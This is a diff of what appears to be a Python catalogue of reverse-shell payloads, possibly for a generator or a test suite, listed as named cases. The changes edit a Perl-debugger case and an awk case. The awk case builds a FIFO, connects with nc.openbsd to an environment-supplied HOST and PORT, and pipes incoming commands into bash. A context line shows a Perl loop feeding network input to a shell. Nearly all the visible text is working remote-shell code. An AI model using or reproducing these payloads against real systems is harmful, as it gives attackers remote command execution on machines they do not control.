@@ -52,8 +52,7 @@ while (sysread $net, my $order, 512) { print $shell $order }
         name="perl-debugger",
         language=Language.PERL,
         speech=Speech.PERL_SYSTEM,
-        text=_PERL_CALL + _PERL_STREAMS + "$ENV{PERLDB_OPTS} = 'noTTY'; exec 'perl', '-de', '0';",
-        programs=("perldoc",),
+        text=_PERL_CALL + _PERL_STREAMS + "exec 'perl', '-de', '0';",
     ),
     Case(
         name="perl-evaluates-lines",
@@ -254,7 +253,10 @@ BEGIN {
 BEGIN {
     system("mkfifo g")
     net = "nc.openbsd " ENVIRON["HOST"] " " ENVIRON["PORT"] " < g"
-    while ((net | getline order) > 0) { print order | "bash > g 2>&1"; fflush() }
+    shell = "bash > g 2>&1"
+    print ":" | shell
+    fflush(shell)
+    while ((net | getline order) > 0) { print order | shell; fflush(shell) }
 }
 """,
     ),
